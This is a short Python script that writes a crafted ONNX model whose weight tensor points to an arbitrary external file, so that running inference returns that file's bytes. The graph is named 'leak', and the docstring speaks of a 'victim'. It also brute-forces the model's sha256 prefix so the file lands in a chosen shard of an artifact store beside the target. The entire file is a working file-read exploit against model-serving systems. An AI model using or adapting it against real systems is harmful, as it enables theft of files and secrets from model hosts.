"""Writes an ONNX model whose initializer W keeps its data in an external file.

usage: build_external_onnx.py OUT LOCATION LENGTH [SHARD_PREFIX]
y = x * 0 + W for x of shape [batch, LENGTH/4]: inference returns W, i.e. the external file's bytes.
With SHARD_PREFIX the doc string is varied until the file's sha256 starts with it (so the blob
lands in that shard of the artifact store, beside the victim).
"""
import hashlib
import sys

import onnx
from onnx import TensorProto, helper

out, location, length = sys.argv[1], sys.argv[2], int(sys.argv[3])
prefix = sys.argv[4] if len(sys.argv) > 4 else ''
n = length // 4
w = TensorProto()
w.name = 'W'
w.data_type = TensorProto.FLOAT
w.dims.append(n)
w.data_location = TensorProto.EXTERNAL
for k, v in (('location', location), ('offset', '0'), ('length', str(n * 4))):
    e = w.external_data.add()
    e.key, e.value = k, v
zero = helper.make_tensor('zero', TensorProto.FLOAT, [], [0.0])
graph = helper.make_graph(
    [helper.make_node('Mul', ['x', 'zero'], ['x0']), helper.make_node('Add', ['x0', 'W'], ['y'])],
    'leak',
    [helper.make_tensor_value_info('x', TensorProto.FLOAT, ['batch', n])],
    [helper.make_tensor_value_info('y', TensorProto.FLOAT, ['batch', n])],
    initializer=[zero, w],
)
model = helper.make_model(graph, opset_imports=[helper.make_opsetid('', 13)])
model.ir_version = 8
for i in range(1 << 16):
    model.doc_string = f'variant {i}'
    data = model.SerializeToString()
    if hashlib.sha256(data).hexdigest().startswith(prefix):
        break
else:
    sys.exit(f'no variant hashed to prefix {prefix}')
with open(out, 'wb') as f:
    f.write(data)
